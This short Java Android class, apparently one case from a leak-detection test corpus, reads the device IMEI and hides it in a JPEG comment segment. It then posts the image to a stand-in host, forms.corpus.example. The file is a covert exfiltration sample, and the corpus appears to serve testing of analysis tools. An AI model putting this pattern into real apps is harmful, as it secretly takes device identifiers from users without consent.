package org.corpus;

import android.graphics.Bitmap;
import java.io.ByteArrayOutputStream;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** A JPEG with a comment: ITU-T T.81, marker COM. */
public class InPicture extends Screen {
    @Override
    protected void act() throws Exception {
        ByteArrayOutputStream picture = new ByteArrayOutputStream();
        Bitmap.createBitmap(32, 32, Bitmap.Config.ARGB_8888)
                .compress(Bitmap.CompressFormat.JPEG, 80, picture);
        byte[] plain = picture.toByteArray();
        byte[] note = Net.utf8(Owner.imei(this));
        ByteArrayOutputStream noted = new ByteArrayOutputStream();
        noted.write(plain, 0, 2);
        noted.write(new byte[] {(byte) 0xff, (byte) 0xfe, 0, (byte) (note.length + 2)});
        noted.write(note);
        noted.write(plain, 2, plain.length - 2);
        Net.post("http://forms.corpus.example/picture.jpg", "image/jpeg", noted.toByteArray());
    }
}
